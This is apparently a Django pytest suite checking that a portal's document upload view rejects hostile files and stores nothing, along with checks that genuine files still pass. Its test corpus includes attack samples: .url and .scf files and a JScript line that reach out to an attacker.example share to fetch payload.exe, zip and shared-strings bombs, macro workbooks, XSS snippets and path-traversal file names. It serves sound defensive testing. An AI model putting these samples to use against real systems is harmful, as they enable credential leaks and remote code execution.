"""A corpus of hostile uploads sent through the real upload view: each is refused with a message
a person can act on, and nothing is stored (no file in storage, no Document row, no event)."""

from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from fpdf import FPDF

from documents.models import Document
from onboarding.models import Application, ApplicationEvent
from portal.models import User
from tests.documents.office_files import (
    EXCEL_ADDIN,
    EXCEL_BINARY,
    EXCEL_MACRO,
    EXCEL_MACRO_TEMPLATE,
    EXCEL_PLAIN,
    MB,
    VBA,
    WORD_MACRO,
    WORKBOOK,
    office_file,
    office_package,
    shared_strings_bomb,
)
from tests.factories import PDF

pytestmark = pytest.mark.django_db

EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def understated_zip_bomb() -> bytes:
    """A DOCX whose directory claims its part is 1 KB although it unpacks to 50 MB."""
    content = office_file("docx", 50 * MB)
    real = (50 * MB).to_bytes(4, "little")
    fake = (1024).to_bytes(4, "little")
    assert content.count(real) >= 2  # local header and central directory both record it
    return content.replace(real, fake)


def real_pdf() -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="IRS determination letter")
    return bytes(pdf.output())


UNRECOGNISED, BOMB, DAMAGED = "could not recognise", "unpacks to far more data", "incomplete"
BLOCKED, NO_FILE = "cannot be uploaded", "Choose a file to upload"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
HTML = b"<html><script>alert(1)</script>,</html>"
SVG = b'<?xml version="1.0"?><svg onload="x()">,</svg>'
NO_EOF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n"
RTL = "\N{RIGHT-TO-LEFT OVERRIDE}"
MACROS = "Files with macros cannot be uploaded"
NOT_A_TABLE = "not laid out as a table"
# Each has a comma on its first line, which is all the first bytes of a CSV file show.
INTERNET_SHORTCUT = (
    b"; shortcut, opened from the share\r\n[InternetShortcut]\r\n"
    b"URL=file://attacker.example/share/payload.exe\r\n"
    b"IconFile=\\\\attacker.example\\share\\icon.ico\r\nIconIndex=1\r\n"
)
SHELL_COMMAND_FILE = (
    b"; desktop, refreshed\r\n[Shell]\r\nCommand=2\r\n"
    b"IconFile=\\\\attacker.example\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"
)
PYTHON = b"import os, subprocess\nsubprocess.run(['calc.exe'])\n"
JAVASCRIPT = (
    b'var shell = WScript.CreateObject("WScript.Shell"), share = "\\\\attacker.example\\s";\n'
    b'shell.Run(share + "\\payload.exe");\n'
)

CORPUS = [
    # (case, file name, content, words the person is told)
    ("empty", "letter.pdf", b"", "empty"),
    ("oversized", "letter.pdf", PDF + b"0" * (25 * MB), "the limit is 25"),
    ("far oversized (reading stops at the limit)", "scan.pdf", PDF + b"0" * (60 * MB), "too large"),
    ("wrong type: GIF", "chart.png", GIF, UNRECOGNISED),
    ("wrong type: HTML as CSV", "roster.csv", HTML, UNRECOGNISED),
    ("wrong type: SVG as CSV", "logo.csv", SVG, UNRECOGNISED),
    ("renamed executable", "invoice.pdf", EXECUTABLE, UNRECOGNISED),
    ("renamed ELF binary", "roster.csv", ELF, UNRECOGNISED),
    ("path traversal name", "..", PDF, NO_FILE),
    ("path traversal to a folder", "../../", PDF, NO_FILE),
    ("right-to-left override name", f"invoice{RTL}fdp.exe", PDF, BLOCKED),
    ("PDF named as a program", "setup.exe", PDF, BLOCKED),
    ("PDF named as a web page", "../../var/www/index.html", PDF, BLOCKED),
    ("zip bomb DOCX by ratio", "report.docx", office_file("docx", 30 * MB), BOMB),
    ("zip bomb XLSX by ratio", "capacity.xlsx", office_file("xlsx", 30 * MB), BOMB),
    ("zip bomb DOCX lying about its size", "report.docx", understated_zip_bomb(), UNRECOGNISED),
    ("damaged zip as DOCX", "report.docx", b"PK\x03\x04" + b"\x17" * 200, UNRECOGNISED),
    ("PDF without %%EOF", "letter.pdf", NO_EOF, DAMAGED),
    ("truncated PDF", "letter.pdf", real_pdf()[: len(real_pdf()) // 2], DAMAGED),
    ("internet shortcut", "evil.url", INTERNET_SHORTCUT, "Files ending in .url cannot be"),
    ("shell command file", "desktop.scf", SHELL_COMMAND_FILE, "Files ending in .scf cannot be"),
    ("Python script", "roster.py", PYTHON, "Files ending in .py cannot be"),
    ("JavaScript as CSV named a PDF", "js.pdf", JAVASCRIPT, NOT_A_TABLE),
    ("JavaScript as CSV", "roster.csv", JAVASCRIPT, NOT_A_TABLE),
    ("CSV named a PDF", "letter.pdf", b"name,county\nAna,los_angeles\n", "must end in .csv"),
    ("PDF named a Word document", "report.docx", PDF, "must end in .pdf"),
    ("Excel binary workbook", "macro.xlsb", office_package(WORKBOOK, EXCEL_BINARY), MACROS),
    ("Excel add-in", "tools.xlam", office_package(WORKBOOK, EXCEL_ADDIN), MACROS),
    ("Excel macro template", "budget.xltm", office_package(WORKBOOK, EXCEL_MACRO_TEMPLATE), MACROS),
    ("Excel macro workbook", "capacity.xlsm", office_package(WORKBOOK, EXCEL_MACRO), MACROS),
    (
        "Excel macro workbook named .xlsx",
        "capacity.xlsx",
        office_package(WORKBOOK, EXCEL_MACRO),
        MACROS,
    ),
    (
        "Excel binary workbook named .xlsx",
        "capacity.xlsx",
        office_package({"xl/workbook.bin": b"\x83\x01\x00"}, EXCEL_BINARY),
        MACROS,
    ),
    (
        "macros under a plain Excel type",
        "capacity.xlsx",
        office_package(WORKBOOK, EXCEL_PLAIN),
        MACROS,
    ),
    (
        "Word macro document named .docx",
        "report.docx",
        office_package(
            {"word/document.xml": b"<w:document/>", "word/vbaProject.bin": VBA}, WORD_MACRO
        ),
        MACROS,
    ),
    ("shared strings bomb XLSX", "capacity.xlsx", shared_strings_bomb(0), BOMB),
    (
        "shared strings bomb XLSX padded under the file's ratio",
        "capacity.xlsx",
        shared_strings_bomb(700 * 1024),
        BOMB,
    ),
]


def stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


def multipart(name: str, content: bytes) -> tuple[bytes, str]:
    """The request body exactly as a hostile client would send it (the test client's own
    encoder refuses some of these names, so the body is written by hand)."""
    boundary = "----hostile-corpus-boundary"
    quoted = name.replace("\\", "\\\\").replace('"', '\\"')
    body = b"".join(
        [
            f"--{boundary}\r\n".encode(),
            b'Content-Disposition: form-data; name="requirement"\r\n\r\n',
            b"Other supporting document\r\n",
            f"--{boundary}\r\n".encode(),
            f'Content-Disposition: form-data; name="file"; filename="{quoted}"\r\n'.encode(),
            b"Content-Type: application/pdf\r\n\r\n",
            content,
            f"\r\n--{boundary}--\r\n".encode(),
        ]
    )
    return body, f"multipart/form-data; boundary={boundary}"


def post_upload(client: Client, application: Application, name: str, content: bytes) -> list[str]:
    """Post like a browser, follow the redirect and return the messages the person reads."""
    url = reverse("onboarding:document_upload", args=[application.pk, "entity"])
    body, content_type = multipart(name, content)
    response = client.generic("POST", url, body, content_type=content_type)
    assert response.status_code == 302
    page = client.get(response["Location"])
    assert page.status_code == 200
    return [str(message) for message in page.context["messages"]]


@pytest.fixture
def official_client(client: Client, authorized_official: User) -> Client:
    client.force_login(authorized_official)
    return client


@pytest.mark.parametrize(("case", "name", "content", "told"), CORPUS, ids=[c[0] for c in CORPUS])
def test_hostile_upload_is_refused_and_nothing_is_stored(
    official_client, application, media_root, case, name, content, told
):
    messages = post_upload(official_client, application, name, content)

    assert len(messages) == 1, messages
    assert told in messages[0]
    assert "Document uploaded" not in messages[0]
    assert not Document.objects.exists()
    assert stored_files(media_root) == []
    assert not application.events.filter(kind=ApplicationEvent.Kind.DOCUMENT_UPLOADED).exists()


def test_genuine_files_pass_the_same_view(official_client, application, media_root):
    """The corpus is refused for what it is, not because the view refuses everything."""
    for name, content in [
        ("letter.pdf", real_pdf()),
        ("report.docx", office_file("docx", 20_000)),
        ("capacity.xlsx", office_file("xlsx", 20_000)),
        ("roster.csv", b"name,county\nAna,los_angeles\n"),
    ]:
        assert post_upload(official_client, application, name, content) == ["Document uploaded."]

    assert Document.objects.count() == 4
    assert len(stored_files(media_root)) == 4


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../../etc/cron.d/evil.pdf", "evil.pdf"),
        ("..\\..\\windows\\evil.pdf", "evil.pdf"),
        ("letter\x00.exe.pdf", "letter.exe.pdf"),
    ],
)
def test_folders_and_hidden_characters_in_a_name_never_reach_storage(
    official_client, application, media_root, name, shown
):
    """Django's upload parser drops folder steps and unprintable characters before our code
    sees the name, so a real PDF sent under such a name is kept: under a random key inside the
    storage folder, shown under the cleaned name."""
    messages = post_upload(official_client, application, name, PDF)

    document = Document.objects.get()
    assert messages == ["Document uploaded."]
    assert document.original_name == shown
    assert stored_files(media_root) == [media_root / document.file.name]
    assert "evil" not in document.file.name
    assert "letter" not in document.file.name
